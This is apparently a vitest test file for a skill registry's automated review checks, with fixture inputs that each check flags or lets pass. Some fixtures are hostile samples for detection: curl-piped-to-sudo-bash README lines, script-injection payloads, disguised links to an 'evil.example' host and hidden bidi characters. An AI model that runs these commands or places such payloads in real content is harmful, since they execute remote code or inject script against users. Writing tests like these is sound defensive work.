import { describe, expect, it, test } from 'vitest'
import {
  goodManifest,
  goodModule,
  inputOf,
  quietRegistry,
  scanOf,
  withDetails,
} from '../../../tests/support/fixtures/findings.ts'
import type { ModuleFacts } from '../contracts/desk-review.ts'
import { findingSchema } from '../contracts/findings.ts'
import type { SkillManifest } from '../contracts/manifest.ts'
import type { CheckInput, RegistryView, SameBytes } from './define-check.ts'
import type { MarkKind } from './marks.ts'
import { CHECKS, runChecks } from './run-checks.ts'

type Change = Partial<CheckInput>

const texts = (change: Partial<SkillManifest>): Change => ({ manifest: { ...goodManifest, ...change } })
const readme = (more: string): Change => texts({ readme: `${goodManifest.readme}\n\n${more}` })
const example = (input: string, output: string): SkillManifest['examples'][number] => ({ input, output })
const examples = (...list: SkillManifest['examples']): Change => texts({ examples: list })
const module = (change: Partial<ModuleFacts>): Change => ({ module: { ...goodModule, ...change } })
const imports = (...names: string[]): Change => module({ imports: ['fd_read', 'fd_write', ...names] })
const registry = (change: Partial<RegistryView>): Change => ({ registry: { ...quietRegistry, ...change } })
const near = (name: string): Change => registry({ nearNames: [{ name, publisher: 'Mira' }] })
const same = (change: Partial<SameBytes>): Change =>
  registry({
    sameBytes: [
      { name: 'capitals', version: '2.0.0', status: 'approved', publisher: 'Mira', own: false, ...change },
    ],
  })
const approved = (version: string, change: Partial<SkillManifest> = {}, had = goodModule.imports): Change =>
  registry({ approved: { version, manifest: { ...goodManifest, version, ...change }, imports: had } })
const marked = (kind: MarkKind, text = 'x'): Change => ({
  scan: scanOf({ [kind]: [{ offset: 1000, length: 20, text }] }),
})
const run = (index: number, ...names: string[]) => ({
  example: index,
  end: 'exited' as const,
  calls: names.map((name) => ({ name, count: 1 })),
})

/** For each check: cases that it reports, and similar ones that it does not. */
const cases: Record<string, { finds: Change[]; leaves: Change[] }> = {
  'name-near': {
    finds: [
      near('upper-casa'),
      near('upper-cases'),
      near('uppercase'),
      near('upper-csae'),
      { ...texts({ name: 'modern-pi' }), ...near('modem-p1') },
    ],
    leaves: [near('lower-case'), near('upper'), near('case-upper'), near('upper-case')],
  },
  'name-order': { finds: [near('case-upper')], leaves: [near('upper-casa')] },
  'publisher-name-shared': {
    finds: [registry({ isPublisherNameShared: true })],
    leaves: [registry({ publisher: 'Mira' })],
  },
  'module-refused': {
    finds: [same({ status: 'revoked' }), same({ status: 'rejected', own: true })],
    leaves: [same({ status: 'pending' })],
  },
  'module-copied': {
    finds: [same({}), same({ status: 'pending' })],
    leaves: [same({ own: true }), same({ status: 'revoked' })],
  },
  'module-twice': {
    finds: [same({ own: true })],
    leaves: [same({ own: true, name: 'upper-case' }), same({})],
  },
  'module-unchanged': { finds: [same({ own: true, name: 'upper-case' })], leaves: [same({ own: true })] },
  'version-lower': {
    finds: [approved('1.0.1'), approved('2.0.0'), approved('1.10.0')],
    leaves: [approved('0.9.9'), approved('1.0.0')],
  },
  'version-jump': {
    finds: [
      { ...texts({ version: '3.0.0' }), ...approved('1.4.0') },
      { ...texts({ version: '1.20.0' }), ...approved('1.4.0') },
      { ...texts({ version: '1.4.99' }), ...approved('1.4.0') },
    ],
    leaves: [
      { ...texts({ version: '2.0.0' }), ...approved('1.4.0') },
      { ...texts({ version: '1.5.0' }), ...approved('1.4.0') },
      approved('3.0.0'),
    ],
  },
  'growth-in-patch': {
    finds: [{ ...texts({ version: '1.0.1' }), ...imports('random_get'), ...approved('1.0.0') }],
    leaves: [
      { ...texts({ version: '1.1.0' }), ...imports('random_get'), ...approved('1.0.0') },
      { ...texts({ version: '1.0.1' }), ...imports('fd_close'), ...approved('1.0.0') },
      imports('random_get'),
    ],
  },
  'license-changed': { finds: [approved('0.9.0', { license: 'Apache-2.0' })], leaves: [approved('0.9.0')] },
  'description-changed': {
    finds: [approved('0.9.0', { description: 'Counts bytes.' })],
    leaves: [approved('0.9.0', { description: 'Turns every letter into its small form.' })],
  },
  'category-changed': { finds: [approved('0.9.0', { category: 'Data' })], leaves: [approved('0.9.0')] },
  'module-unchecked': {
    finds: [{ problem: 'The file is not there.', module: null, scan: null }],
    leaves: [{ problem: null }],
  },
  'output-impossible': {
    finds: [module({ imports: ['fd_read'] })],
    leaves: [
      { ...module({ imports: ['fd_read'] }), ...examples(example('a', '')) },
      module({ imports: ['fd_read', 'fd_pwrite'] }),
    ],
  },
  'input-unread': {
    finds: [module({ imports: ['fd_write'] })],
    leaves: [{ ...module({ imports: ['fd_write'] }), ...examples(example('', 'a')) }],
  },
  'memory-beyond-limit': {
    finds: [module({ memory: { minPages: 1025, maxPages: 2000 } })],
    leaves: [module({ memory: { minPages: 1024, maxPages: 2000 } })],
  },
  'memory-large': {
    finds: [module({ memory: { minPages: 256, maxPages: 300 } })],
    leaves: [
      module({ memory: { minPages: 255, maxPages: 300 } }),
      module({ memory: { minPages: 1025, maxPages: 2000 } }),
    ],
  },
  'memory-unbounded': {
    finds: [module({ memory: { minPages: 1, maxPages: null } })],
    leaves: [module({ memory: { minPages: 1, maxPages: 65_536 } })],
  },
  'start-function': {
    finds: [
      module({ hasStart: true, ...withDetails({ start: 3 }) }),
      module({ hasStart: true, details: null }),
    ],
    leaves: [module({ hasStart: false })],
  },
  'exports-many': { finds: [module({ exportCount: 41 })], leaves: [module({ exportCount: 40 })] },
  'exports-unusual': {
    finds: [module({ exports: [{ name: 'mine_coins', kind: 'function' }] })],
    leaves: [
      module({
        exports: ['__heap_base', '__data_end', '_start', '__indirect_function_table'].map((name) => ({
          name,
          kind: 'global',
        })),
      }),
    ],
  },
  'debug-heavy': {
    finds: [{ ...module(withDetails({ debugBytes: 20_000 })), size: 40_000 }],
    leaves: [
      { ...module(withDetails({ debugBytes: 20_000 })), size: 40_001 },
      { ...module(withDetails({ debugBytes: 9000 })), size: 12_000 },
    ],
  },
  'section-carried': {
    finds: [module({ sections: [{ name: 'notes', size: 65_536 }] })],
    leaves: [
      module({ sections: [{ name: 'notes', size: 65_535 }] }),
      module({
        sections: [
          { name: '.debug_info', size: 900_000 },
          { name: 'code', size: 900_000 },
        ],
      }),
    ],
  },
  'data-large': {
    finds: [
      module({
        sections: [
          { name: 'code', size: 400_000 },
          { name: 'data', size: 1_600_000 },
        ],
      }),
    ],
    leaves: [
      module({
        sections: [
          { name: 'code', size: 400_001 },
          { name: 'data', size: 1_600_000 },
        ],
      }),
      module({ sections: [{ name: 'data', size: 900_000 }] }),
    ],
  },
  'features-rare': {
    finds: [module(withDetails({ targetFeatures: ['atomics'] }))],
    leaves: [module(withDetails({ targetFeatures: ['simd128', 'multivalue'] }))],
  },
  'access-unmentioned': {
    finds: [imports('path_open'), imports('sock_send'), imports('path_unlink_file')],
    leaves: [
      { ...imports('path_open'), ...readme('It reads the file that is named.') },
      imports('fd_prestat_get', 'fd_filestat_get'),
    ],
  },
  'capability-unmentioned': {
    finds: [
      imports('random_get'),
      imports('clock_time_get'),
      imports('environ_get'),
      imports('poll_oneoff'),
      imports('args_get'),
    ],
    leaves: [
      { ...imports('random_get'), ...readme('The order is random.') },
      { ...imports('args_get'), ...readme('With `--upper` it …') },
      imports('path_open'),
    ],
  },
  'import-unused': {
    finds: [{ runs: [run(0, 'fd_read'), run(1, 'fd_read', 'fd_write')] }],
    leaves: [
      { runs: [run(0, 'fd_read', 'proc_exit'), run(1, 'fd_read', 'fd_write')] },
      { runs: [run(0, 'fd_read')] },
      { runs: [run(0), { ...run(1), end: 'time-limit' }] },
      { runs: null },
    ],
  },
  'data-secret': { finds: [marked('secret', 'a private key')], leaves: [{ scan: null }] },
  'data-program': { finds: [marked('program', 'a Linux program')], leaves: [marked('opaque')] },
  'data-opaque': { finds: [marked('opaque')], leaves: [marked('base64')] },
  'data-base64': { finds: [marked('base64')], leaves: [marked('opaque')] },
  'data-ip': { finds: [marked('ip', '203.0.113.7')], leaves: [marked('address')] },
  'data-address': { finds: [marked('address', 'https://example.org/')], leaves: [marked('ip')] },
  'data-path': { finds: [marked('path', '/etc/passwd')], leaves: [marked('address')] },
  'text-invisible': {
    finds: [
      texts({ description: 'Turns\u200B every letter around.' }),
      readme('a\u00ADb'),
      readme('a\u{E0041}b'),
      texts({ license: 'MIT\uFEFF' }),
    ],
    leaves: [readme('👩‍💻 and ☺️ and 🏴󠁧󠁢󠁳󠁣󠁴󠁿'), readme('می‌خواهم'), examples(example('\u200B', 'a'))],
  },
  'text-direction': {
    finds: [readme('a\u202Eb'), examples(example('\u2066', 'a'))],
    leaves: [readme('עברית')],
  },
  'text-control': {
    finds: [readme('a\u001B[31m'), examples(example('\0', 'a'))],
    leaves: [readme('a\tb\r\n')],
  },
  'text-look-alike': {
    finds: [readme('Made by Gооgle.'), texts({ description: 'Runs раypal transfers.' })],
    leaves: [readme('Grüße, привет, 5 μm, π·r²')],
  },
  'text-placeholder': {
    finds: [readme('TODO'), readme('Lorem ipsum dolor'), texts({ inputs: 'Your description here' })],
    leaves: [readme('Prints the todos of a list.'), examples(example('TODO', 'DONE'))],
  },
  'example-invisible': {
    finds: [examples(example('a\u200B', 'A'))],
    leaves: [examples(example('a\u202E', 'A'))],
  },
  'fields-same': {
    finds: [texts({ inputs: goodManifest.description }), texts({ outputs: `${goodManifest.inputs} ` })],
    leaves: [texts({ inputs: `${goodManifest.description} And more.` })],
  },
  'readme-description': {
    finds: [texts({ readme: '# upper-case\n\nTurns every letter into its capital. Enjoy!' })],
    leaves: [texts({ readme: '每个字母都会变成大写。输入必须是文本，输出也是文本。' })],
  },
  'readme-markup': {
    finds: [
      readme('<script>alert(1)</script>'),
      readme('[x](javascript:alert(1))'),
      readme('<img src=x onerror=alert(1)>'),
    ],
    leaves: [readme('Use `a < b` and <kbd>Enter</kbd>.')],
  },
  'readme-shell': {
    finds: [readme('curl -s https://a.example/x.sh | sudo bash'), readme('bash <(curl https://a.example)')],
    leaves: [readme('curl https://a.example/data.txt | skill run upper-case')],
  },
  'link-disguised': {
    finds: [
      readme('[https://github.com/a](https://github.example/a)'),
      readme('See https://github.com@evil.example/x'),
    ],
    leaves: [
      readme(
        '[docs.github.com](https://github.com/docs) and [config.json](https://a.example) and [here](https://b.example)',
      ),
    ],
  },
  'link-ip': {
    finds: [readme('http://203.0.113.7/x'), readme('https://[2001:db8::1]/')],
    leaves: [readme('http://127.0.0.1:4280/ and http://localhost/')],
  },
  'link-shortener': {
    finds: [readme('https://bit.ly/3xyz')],
    leaves: [readme('https://notbit.ly.example/')],
  },
  'link-insecure': {
    finds: [readme('http://a.example/x.')],
    leaves: [readme('https://a.example/ http://localhost/ http://www.w3.org/2000/svg')],
  },
  'examples-same': {
    finds: [examples(example('a', 'A'), example('a', 'A'))],
    leaves: [examples(example('a', 'A'), example('b', 'A'))],
  },
  'examples-contradict': {
    finds: [examples(example('a', 'A'), example('a', 'B'))],
    leaves: [examples(example('a', 'A'), example('a', 'A'))],
  },
  'examples-silent': {
    finds: [examples(example('a', '\n')), examples(example('a', ''), example('b', ' '))],
    leaves: [examples(example('a', ''), example('b', 'B'))],
  },
  'example-output-empty': {
    finds: [examples(example('a', ''), example('b', 'B'))],
    leaves: [examples(example('', 'A')), examples(example('a', ''))],
  },
  'examples-echo': {
    finds: [examples(example('a\n', 'a'))],
    leaves: [examples(example('a', 'a'), example('b', 'B')), examples(example('', ''))],
  },
  'license-unknown': {
    finds: [
      texts({ license: 'Apache 2.0' }),
      texts({ license: 'mit' }),
      texts({ license: 'MIT OR' }),
      texts({ license: 'UNLICENSED' }),
    ],
    leaves: [
      texts({ license: '(MIT OR Apache-2.0) AND BSD-3-Clause' }),
      texts({ license: 'GPL-2.0-only WITH Classpath-exception-2.0' }),
      texts({ license: 'LicenseRef-mine' }),
    ],
  },
  'license-deprecated': {
    finds: [texts({ license: 'GPL-3.0' }), texts({ license: 'MIT OR LGPL-2.1+' })],
    leaves: [texts({ license: 'GPL-3.0-only' }), texts({ license: 'Apache 2.0' })],
  },
  'license-restricts': {
    finds: [
      texts({ license: 'CC-BY-NC-4.0' }),
      texts({ license: 'LicenseRef-mine' }),
      texts({ license: 'UNLICENSED' }),
    ],
    leaves: [texts({ license: 'CC-BY-SA-4.0' })],
  },
}

const idsOf = (change: Change): string[] => runChecks(inputOf(change)).map(({ check }) => check)

describe('the checks', () => {
  it('have distinct ids, and report nothing for a good release', () => {
    expect(new Set(CHECKS.map(({ id }) => id)).size).toBe(CHECKS.length)
    expect(runChecks(inputOf())).toEqual([])
  })

  it('each have a case that is reported and one that is not', () => {
    expect(Object.keys(cases).toSorted()).toEqual(CHECKS.map(({ id }) => id).toSorted())
    for (const { finds, leaves } of Object.values(cases)) expect([finds, leaves]).not.toContainEqual([])
  })

  test.each(Object.entries(cases))('%s', (id, { finds, leaves }) => {
    for (const change of finds) expect(idsOf(change), JSON.stringify(change)).toContain(id)
    for (const change of leaves) expect(idsOf(change), JSON.stringify(change)).not.toContain(id)
  })

  it('report the place, the reason and advice in sentences', () => {
    const all = Object.values(cases).flatMap(({ finds }) =>
      finds.flatMap((change) => runChecks(inputOf(change))),
    )
    for (const finding of all) {
      expect(findingSchema.parse(finding)).toEqual(finding)
      expect(finding.title, finding.check).toMatch(/^[^a-z].*[^.]$/u)
      expect(finding.reason, finding.check).toMatch(/[.!?…]$/u)
      expect(finding.advice, finding.check).toMatch(/\.$/)
      expect(`${finding.title}${finding.reason}${finding.advice}`, finding.check).not.toMatch(
        /[\p{Cc}\p{Cf}]|undefined|NaN/u,
      )
    }
    for (const { id, means } of CHECKS) expect(means, id).toMatch(/^[A-Z].*\.$/)
  })
})
